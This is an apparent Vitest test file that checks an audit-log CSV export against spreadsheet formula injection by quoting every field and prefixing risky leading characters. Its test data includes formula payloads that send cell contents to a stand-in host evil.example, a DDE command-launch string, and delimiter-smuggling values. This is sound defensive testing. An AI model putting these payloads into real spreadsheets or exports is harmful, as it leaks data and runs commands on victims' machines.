import { describe, expect, it } from "vitest";
import {
  AUDIT_CSV_COLUMNS,
  auditCsvHeader,
  auditCsvRow,
  auditToCsv,
  csvCell,
  mayRunAsFormula,
} from "@/lib/audit/server/audit-csv";
import { auditCsvColumnNames } from "@/lib/audit/server/audit-csv-columns";
import type { AuditEntry } from "@/lib/audit/schemas";

/** Reads CSV back (RFC 4180 quoting) with any delimiter, as a spreadsheet's import would. */
function parseCsv(text: string, delimiter = ","): string[][] {
  const rows: string[][] = [];
  let row: string[] = [];
  let cell = "";
  let quoted = false;
  for (let i = 0; i < text.length; i++) {
    const c = text[i]!;
    if (quoted) {
      if (c === '"' && text[i + 1] === '"') {
        cell += '"';
        i++;
      } else if (c === '"') quoted = false;
      else cell += c;
    } else if (c === '"') quoted = true;
    else if (c === delimiter) {
      row.push(cell);
      cell = "";
    } else if (c === "\r" && text[i + 1] === "\n") {
      row.push(cell);
      rows.push(row);
      row = [];
      cell = "";
      i++;
    } else cell += c;
  }
  return rows;
}

/** What a cell holds once read back: the value, behind `'` when it could run as a formula. */
function readBack(cell: string): string {
  expect(cell.startsWith('"') && cell.endsWith('"'), cell).toBe(true);
  return parseCsv(`${cell}\r\n`)[0]![0]!;
}

const payloads = [
  "SUM(1+1)",
  'HYPERLINK("http://evil.example/?"&A1,"click")',
  "cmd|' /C calc'!A0",
  "1+1",
  'IMPORTXML(CONCAT("http://evil.example/?",A1),"//a")',
];

// Everything OWASP lists, and what a spreadsheet may skip or fold to it before it looks.
const formulaStarts = [
  "=",
  "+",
  "-",
  "@",
  "\t",
  "\r",
  "\n",
  "\r\n",
  "\0",
  " ",
  "  ",
  "\u000B",
  "\u000C",
  "\u001B",
  "\u007F",
  "\u0085",
  "\u00A0",
  "\u1680",
  "\u2000",
  "\u2007",
  "\u200B",
  "\u200E",
  "\u200F",
  "\u2028",
  "\u2029",
  "\u202E",
  "\u2060",
  "\u3000",
  "\uFEFF",
  "\uFEFF\uFEFF",
  "＝",
  "＋",
  "－",
  "＠",
  "﹦",
  "﹢",
  "﹣",
  "﹫",
  "⁼",
  "₌",
  "⁺",
  "₊",
  "⁻",
  "₋",
  "−",
  " \t=",
];

describe("csvCell", () => {
  it.each(formulaStarts.map((start) => [JSON.stringify(start), start]))(
    "defuses a value starting with %s",
    (_name, start) => {
      for (const payload of payloads) {
        const value = `${start}${payload}`;
        expect(mayRunAsFormula(value)).toBe(true);
        expect(readBack(csvCell(value))).toBe(`'${value}`);
      }
    },
  );

  it("defuses every character that NFKC folds to = + - @", () => {
    const missed: string[] = [];
    for (let code = 0; code <= 0x10ffff; code++) {
      if (code >= 0xd800 && code <= 0xdfff) continue;
      const char = String.fromCodePoint(code);
      if (/^[=+\-@]/.test(char.normalize("NFKC")) && !mayRunAsFormula(`${char}1`)) missed.push(char);
    }
    expect(missed).toEqual([]);
  });

  it.each([
    "plain",
    "a=b",
    'x;=HYPERLINK("http://evil.example","x")',
    "x\t=1+1",
    "x,=1+1",
    'say "hi"',
    "two\nlines",
    "42",
    "'already quoted",
    "Before nginx 1.27 upgrade",
    "デプロイ前のバックアップ",
    "резервная копия",
    "αντίγραφο",
    "1.5",
    "2030-01-01T10:00:00.000Z",
    "user@example.com",
    "",
  ])("keeps %j as it is, in quotes", (value) => {
    expect(mayRunAsFormula(value)).toBe(false);
    expect(readBack(csvCell(value))).toBe(value);
  });

  it("quotes every field, numbers and empty ones included, and doubles inner quotes", () => {
    expect(csvCell("plain")).toBe('"plain"');
    expect(csvCell(42)).toBe('"42"');
    expect(csvCell(null)).toBe('""');
    expect(csvCell(undefined)).toBe('""');
    expect(csvCell("")).toBe('""');
    expect(csvCell('say "hi"')).toBe('"say ""hi"""');
    expect(csvCell('=HYPERLINK("http://x","y")')).toBe(`"'=HYPERLINK(""http://x"",""y"")"`);
    expect(csvCell("-1")).toBe(`"'-1"`);
  });
});

function entry(overrides: Partial<AuditEntry["target"]> & { error?: AuditEntry["error"]; email?: string }): AuditEntry {
  const { error = null, email = "ada@example.com", ...target } = overrides;
  return {
    id: 7,
    createdAt: "2030-01-06T10:00:00.000Z",
    actor: { id: "u-ada", email },
    action: "backup.create",
    target: {
      serverId: "303",
      serverName: null,
      backupId: null,
      userId: null,
      userEmail: null,
      description: null,
      ...target,
    },
    ip: "192.0.2.1",
    via: null,
    outcome: error ? "failure" : "success",
    error,
  };
}

describe("auditToCsv", () => {
  const hostile = [
    'x;=HYPERLINK("http://evil.example/?"&A1,"click")',
    "x;=1+1",
    "x\t=1+1",
    "a;b;c",
    "=1+1;@SUM(A1)",
    " =1+1",
    "\uFEFF=1+1",
    "＝1+1",
    "two\r\nlines;=1",
  ];
  const entries = hostile.map((description, index) =>
    entry({
      description,
      serverName: index % 2 ? "@SUM(A1);=1" : "web;-1",
      error: index % 3 ? null : { code: "provider_refused", message: "-1;=2 is over the quota" },
    }),
  );
  const csv = auditToCsv(entries, auditCsvColumnNames("en"));

  it("reads back cell for cell with a comma, each formula behind a quote", () => {
    const rows = parseCsv(csv);
    expect(rows[0]).toEqual([...AUDIT_CSV_COLUMNS]);
    expect(rows).toHaveLength(hostile.length + 1);
    rows.slice(1).forEach((row, index) => {
      expect(row).toHaveLength(AUDIT_CSV_COLUMNS.length);
      const description = hostile[index]!;
      expect(row[10]).toBe(mayRunAsFormula(description) ? `'${description}` : description);
      expect(row[6]).toBe(index % 2 ? "'@SUM(A1);=1" : "web;-1");
      if (index % 3 === 0) expect(row[14]).toBe("'-1;=2 is over the quota");
    });
  });

  it.each([";", "\t", "|"])("is not split into new cells when imported with %j as the delimiter", (delimiter) => {
    for (const row of parseCsv(csv, delimiter)) {
      expect(row).toHaveLength(1);
      for (const cell of row) expect(mayRunAsFormula(cell)).toBe(false);
    }
  });

  it("quotes every field of every row", () => {
    const lines = csv.split("\r\n").slice(1, -1).join("\r\n");
    // Re-quoting what was read gives the same text: no field went out bare.
    const requoted = parseCsv(csv)
      .slice(1)
      .map((row) => row.map((cell) => `"${cell.replace(/"/g, '""')}"`).join(","))
      .join("\r\n");
    expect(lines).toBe(requoted);
    expect(auditCsvRow(entry({}))).toBe(
      '"7","2030-01-06T10:00:00.000Z","u-ada","ada@example.com","backup.create","303","","","","","","192.0.2.1","success","","","","",""',
    );
  });
});

describe("auditCsvHeader", () => {
  it("names the columns by their ids in English, bare, as before", () => {
    expect(auditCsvHeader(auditCsvColumnNames("en"))).toBe(
      "id,time,actor_id,actor_email,action,server_id,server_name,backup_id,target_user_id,target_user_email,description,ip,outcome,error_code,error_message,via_kind,via_id,via_name",
    );
  });

  it("names them in Vietnamese for a Vietnamese reader, one name per column", () => {
    const header = auditCsvHeader(auditCsvColumnNames("vi"));
    expect(parseCsv(`${header}\r\n`)).toEqual([
      [
        "ID",
        "Thời gian",
        "ID người thực hiện",
        "Email người thực hiện",
        "Hành động",
        "ID máy chủ",
        "Tên máy chủ",
        "ID bản sao lưu",
        "ID người dùng liên quan",
        "Email người dùng liên quan",
        "Mô tả",
        "IP",
        "Kết quả",
        "Mã lỗi",
        "Thông báo lỗi",
        "Thực hiện qua",
        "ID nguồn thực hiện",
        "Tên nguồn thực hiện",
      ],
    ]);
    // Plain words, so bare like the English ones; the rows below are the same in either language.
    expect(header).not.toContain('"');
    const rows = (locale: "en" | "vi") =>
      auditToCsv([entry({})], auditCsvColumnNames(locale))
        .split("\r\n")
        .slice(1);
    expect(rows("vi")).toEqual(rows("en"));
  });

  it("quotes a name that is not plain words, and defuses one that could run as a formula", () => {
    const names: Record<string, string> = { id: "a,b", time: '"t"', actor_id: "=1+1", actor_email: " padded" };
    const header = auditCsvHeader((column) => names[column] ?? column);
    expect(parseCsv(`${header}\r\n`)[0]!.slice(0, 5)).toEqual(["a,b", '"t"', "'=1+1", "' padded", "action"]);
  });
});
